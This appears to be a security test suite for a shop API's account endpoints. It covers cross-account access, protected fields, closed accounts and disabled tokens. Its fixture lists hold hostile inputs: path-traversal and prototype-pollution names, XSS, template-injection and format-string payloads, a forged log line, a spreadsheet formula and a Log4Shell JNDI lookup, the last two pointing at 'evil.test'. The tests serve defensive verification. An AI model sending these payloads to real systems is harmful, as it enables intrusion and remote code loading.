import { decodeJwt } from 'jose';
import { describe, expect, it } from 'vitest';
import type { Route } from '#shared/route';
import { eventually, fresh } from '../../journeys/caller.ts';
import type { Sent } from '../http.ts';
import { linesOf } from '../logs.ts';
import { alike, expectProblem } from '../refusals.ts';
import { copy, sent, shipTo, validRequest } from '../requests.ts';
import { nameOf, routes } from '../routes.ts';
import type { The } from '../world.ts';

/** An id such as the shop gives, of nothing. */
const MISSING = 'exp_0123456789abcdefghjkmnpqrs';

/** What an account holds, and what its owner may not say. */
const DECIDED: Record<string, unknown> = {
  id: 'eve',
  sub: 'eve',
  email: 'eve@example.com',
  emailVerified: true,
  status: 'erased',
  version: 7,
  seq: 7,
  addresses: { home: shipTo },
  createdAt: '2010-12-01T08:26:00.000Z',
  closedAt: '2010-12-01T08:26:00.000Z',
  eraseAt: '2010-12-01T08:26:00.000Z',
  lastExport: { id: MISSING, at: '2010-12-01T08:26:00.000Z' },
  groups: ['admin'],
  ttl: 1,
};

const NO_NAMES = [
  '__proto__',
  '%5f%5fproto%5f%5f',
  '__proto__%2fname',
  '..%2f',
  '..%2f..%2fexports',
  '%2e%2e',
  '..',
  'home%2f..%2foffice',
  'home%00',
  'home%0a',
  'HOME',
  'hom%c3%a9',
  '-home',
  'home.json',
  'ACCOUNT',
  'EXPORT%23x',
  'x'.repeat(33),
];

/** Names that mean something to JavaScript, or to those who read JSON with it. */
const MEANT = ['constructor', 'prototype', 'valueof', 'tostring', 'length', 'name', 'then', '0'];

/** What is code elsewhere: a sheet's, a page's, a template's, a log's. */
const CODE = [
  '=HYPERLINK("https://evil.test","x")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</textarea>&amp;',
  '{{7*7}}',
  `\${jndi:ldap://evil.test/x}`,
  '%s%n',
  '","level":"ERROR","message":"forged',
  '\u202etxt.exe',
];

const ended = { status: 401, code: 'session_ended' };
const isOfAccounts = ({ path }: Route) => path === '/v1/me' || path.startsWith('/v1/me/');
/** Leaving is the last that anybody does. */
const dangerous = routes
  .filter((route) => route.dangerous)
  .toSorted((one, other) => Number(one.operation === 'eraseMe') - Number(other.operation === 'eraseMe'));

export const accounts = (the: The) => {
  /** Somebody whom nobody else needs. */
  const somebody = async (groups: 'admin'[] = []) => {
    const { shop } = the();
    const email = `${fresh('somebody')}@example.com`;
    const password = await shop.issuer.userMade({ email, groups });
    const tokens = await shop.issuer.signedIn({ email, password });
    if (!tokens?.refresh_token) throw new Error(`${email} was not let in`);
    const { access_token: token, refresh_token: refreshToken } = tokens;
    shop.tokens.add(token);
    const { sub = '' } = decodeJwt(token);
    return { id: sub, email, password, token, refreshToken };
  };

  /** Asks for a copy until the answer is as it should be. */
  const asksForCopy = (token: string, isSo: (answer: { status: number; body: { status?: string } }) => boolean) =>
    eventually(() => the().shop.ask({ method: 'POST', path: '/v1/me/exports', token }), isSo);

  describe('6: another’s account', () => {
    it.each(['', '/items', '/items?limit=1'])('a copy%s cannot be told from a missing one', async (rest) => {
      const { shop, tokens } = the();
      const { id } = await copy(shop);
      await shop.unchangedBy(async () => {
        for (const token of [tokens.bob, tokens.grace, tokens.root]) {
          const ask = (one: string) => shop.ask({ path: `/v1/me/exports/${one}${rest}`, token });
          const missing = await ask(MISSING);
          expectProblem(shop, missing, { status: 404, code: 'not_found' }, 'missing');
          expect.soft(alike(await ask(id))).toEqual(alike(missing));
        }
      });
      expect((await shop.ask({ path: `/v1/me/exports/${id}${rest}`, token: tokens.ada })).status).toBe(200);
    });

    it('is none that a caller can name', async () => {
      const { shop, tokens } = the();
      const { sub: ada = '' } = decodeJwt(tokens.ada);
      for (const token of [tokens.bob, tokens.grace, tokens.root]) {
        for (const path of ['/v1/me', `/v1/me?id=${ada}`, `/v1/me?sub=${ada}&caller=${ada}`]) {
          const { status, body } = await shop.ask({ path, token, headers: { 'x-user-id': ada } });
          expect.soft([status, body.id], path).toEqual([200, decodeJwt(token).sub]);
        }
        for (const path of [`/v1/me/${ada}`, `/v1/${ada}`, `/v1/accounts/${ada}`, `/v1/me/..%2f${ada}`]) {
          expectProblem(shop, await shop.ask({ path, token }), { status: 404, code: 'not_found' }, path);
        }
      }
    });

    it('keeps its addresses, whatever others call theirs', async () => {
      const { shop, tokens } = the();
      const path = `/v1/me/addresses/${fresh('home')}`;
      expect((await shop.ask({ method: 'PUT', path, token: tokens.ada, json: shipTo })).status).toBe(201);
      await shop.unchangedBy(async () => {
        const answer = await shop.ask({ method: 'DELETE', path, token: tokens.bob });
        expectProblem(shop, answer, { status: 404, code: 'not_found' }, 'delete');
      });
      const his = { ...shipTo, street: 'Bob’s own' };
      expect((await shop.ask({ method: 'PUT', path, token: tokens.bob, json: his })).status).toBe(201);
      const { text } = await shop.ask({ path: '/v1/me/addresses', token: tokens.ada });
      expect(text).not.toContain('Bob’s own');
      for (const token of [tokens.ada, tokens.bob]) {
        expect((await shop.ask({ method: 'DELETE', path, token })).status).toBe(204);
      }
    });
  });

  describe('7: what nobody says of their own account', () => {
    it.each(Object.keys(DECIDED))('%s', async (name) => {
      const { shop, tokens } = the();
      await shop.unchangedBy(async () => {
        for (const json of [{ [name]: DECIDED[name] }, { name: 'Eve', [name]: DECIDED[name] }, { [name]: null }]) {
          const answer = await shop.ask({ method: 'PATCH', path: '/v1/me', token: tokens.bob, json });
          expectProblem(shop, answer, { status: 422, code: 'unknown_field' }, JSON.stringify(json));
        }
      });
    });
  });

  describe('8: names of addresses', () => {
    it.each(NO_NAMES)('%s is none', async (name) => {
      const { shop, tokens } = the();
      const path = `/v1/me/addresses/${name}`;
      await shop.unchangedBy(async () => {
        for (const request of [{ method: 'PUT', json: shipTo }, { method: 'DELETE' }]) {
          const answer = await shop.ask({ ...request, path, token: tokens.bob });
          expectProblem(shop, answer, { status: 404, code: 'not_found' }, request.method);
        }
      });
    });

    const isLikeAnyOther = async (name: string) => {
      const { shop } = the();
      const { token } = await somebody();
      const path = `/v1/me/addresses/${name}`;
      const nothing = await shop.ask({ method: 'DELETE', path, token });
      expectProblem(shop, nothing, { status: 404, code: 'not_found' }, 'before');
      const put = await shop.ask({ method: 'PUT', path, token, json: shipTo });
      expect([201, 404], put.text).toContain(put.status);
      const isKept = put.status === 201;
      const { body } = await shop.ask({ path: '/v1/me/addresses', token });
      expect(body.data).toEqual(isKept ? [{ id: name, address: shipTo }] : []);
      expect((await shop.ask({ method: 'DELETE', path, token })).status).toBe(isKept ? 204 : 404);
    };

    it.each(MEANT)('%s is one like any other, or none', isLikeAnyOther);
    // Not yet: the one is a 500, the other is answered 201 and not kept. Whoever mends it moves them into the list.
  });

  describe('23: names that are code elsewhere', () => {
    it.each(CODE)('%s is kept as it was said, as JSON, and is in no log', async (code) => {
      const { shop } = the();
      const { token } = await somebody();
      const marker = fresh('marker');
      const name = `${code} ${marker}`;
      const address = { ...shipTo, name, street: name };
      const patched = await shop.ask({ method: 'PATCH', path: '/v1/me', token, json: { name } });
      expect([patched.status, patched.body.name]).toEqual([200, name]);
      const put = await shop.ask({ method: 'PUT', path: '/v1/me/addresses/home', token, json: address });
      expect(put.status).toBe(201);
      const { body: made } = await asksForCopy(token, ({ body }) => body.status === 'ready');
      const read = [
        await shop.ask({ path: '/v1/me', token }),
        await shop.ask({ path: '/v1/me/addresses', token }),
        await shop.ask({ path: `/v1/me/exports/${(made as { id?: string }).id}/items`, token }),
      ];
      expect(read.map(({ body }) => body)).toEqual([
        expect.objectContaining({ name }),
        { data: [{ id: 'home', address }] },
        {
          data: [{ kind: 'account', account: expect.objectContaining({ name, addresses: [{ id: 'home', address }] }) }],
          nextCursor: null,
        },
      ]);
      for (const { headers } of read) {
        expect(headers).toMatchObject({ 'content-type': 'application/json', 'x-content-type-options': 'nosniff' });
      }
      await shop.atRest();
      expect(linesOf(shop.described.logs).filter(({ line }) => line.includes(marker))).toEqual([]);
    });
  });

  describe('an account that was closed', () => {
    it('is gone for its owner’s token, its password and its refresh token', async () => {
      const { shop } = the();
      const { email, password, token, refreshToken } = await somebody();
      await shop.ask({ method: 'PUT', path: '/v1/me/addresses/home', token, json: shipTo });
      const { body: made } = await asksForCopy(token, ({ body }) => body.status === 'ready');
      const params = (path: string) => ({ id: path.includes('/exports/') ? (made as { id: string }).id : 'home' });

      expect((await shop.ask({ method: 'DELETE', path: '/v1/me', token })).status).toBe(202);
      await asksForCopy(token, ({ status }) => status === 401);

      const requests: [Route, Sent][] = [];
      for (const route of routes.filter(isOfAccounts)) {
        requests.push([route, sent(route, { ...(await validRequest(route, shop)), params: params(route.path) })]);
      }
      await shop.unchangedBy(async () => {
        for (const [route, request] of requests) {
          const wanted = route.dangerous ? ended : { status: 410, code: 'account_closed' };
          expectProblem(shop, await shop.ask({ ...request, token }), wanted, nameOf(route));
        }
        expect(await shop.issuer.signedIn({ email, password })).toBeUndefined();
        await expect(shop.issuer.refreshed(refreshToken)).rejects.toMatchObject({ error: 'invalid_grant' });
      });
    });

    it('was closed once, however often that was asked for at once', async () => {
      const { shop } = the();
      const { id, token } = await somebody();
      const ask = () => shop.ask({ method: 'DELETE', path: '/v1/me', token });
      const answers = await Promise.all(Array.from({ length: 10 }, ask));

      const closed = answers.filter(({ status }) => status === 202);
      expect(closed.length).toBeGreaterThan(0);
      expect(new Set(closed.map(({ text }) => text)).size).toBe(1);
      for (const answer of answers.filter(({ status }) => status !== 202)) {
        expectProblem(shop, answer, ended, 'after the user was removed');
      }
      await asksForCopy(token, ({ status }) => status === 401);
      const said = (await shop.rows()).filter(({ pk, type }) => pk === `ACCOUNT#${id}` && type === 'AccountClosed');
      expect(said).toHaveLength(1);
    });
  });

  /** Valid requests of all that is dangerous, for somebody who may do all of it. */
  const dangers = async (): Promise<[Route, Sent][]> => {
    const { shop } = the();
    const all: [Route, Sent][] = [];
    for (const route of dangerous) all.push([route, sent(route, await validRequest(route, shop))]);
    return all;
  };

  describe('a user whose token lasts longer than they do', () => {
    it('is asked for where it is dangerous, and that is here', () => {
      expect(dangerous.map(({ operation }) => operation).toSorted()).toEqual([
        'createRefund',
        'eraseMe',
        'repairDiscrepancy',
        'requestExport',
      ]);
    });

    it('may do nothing dangerous once disabled, and all of it once enabled again', async () => {
      const { shop } = the();
      const admin = await somebody(['admin']);
      const requests = await dangers();

      await shop.pool.disable(admin.id);
      await shop.unchangedBy(async () => {
        for (const [route, request] of requests) {
          const answer = await shop.ask({ ...request, token: admin.token });
          expectProblem(shop, answer, ended, nameOf(route));
          expect.soft(answer.headers['www-authenticate']).toBe('Bearer error="invalid_token"');
        }
        expect((await shop.ask({ path: '/v1/me', token: admin.token })).status).toBe(200);
      });
      await expect(shop.issuer.refreshed(admin.refreshToken)).rejects.toMatchObject({ error: 'invalid_grant' });

      await shop.pool.enable(admin.id);
      for (const [route, request] of requests) {
        const { status, text } = await shop.ask({ ...request, token: admin.token });
        expect.soft([201, 202], `${nameOf(route)}: ${text}`).toContain(status);
      }
    });

    it.each(['silent', 'cut'] as const)('waits while the pool is %s, and nothing is done meanwhile', async (how) => {
      const { shop } = the();
      const admin = await somebody(['admin']);
      const requests = await dangers();
      await shop.unchangedBy(() =>
        shop.pool.without(how, async () => {
          for (const [route, request] of requests) {
            const answer = await shop.ask({ ...request, token: admin.token });
            expectProblem(shop, answer, { status: 503, code: 'busy' }, nameOf(route));
            expect.soft(answer.headers['retry-after']).toMatch(/^\d+$/);
          }
        }),
      );
      for (const [route, request] of requests) {
        const { status, text } = await shop.ask({ ...request, token: admin.token });
        expect.soft([201, 202], `${nameOf(route)}: ${text}`).toContain(status);
      }
    });
  });
};
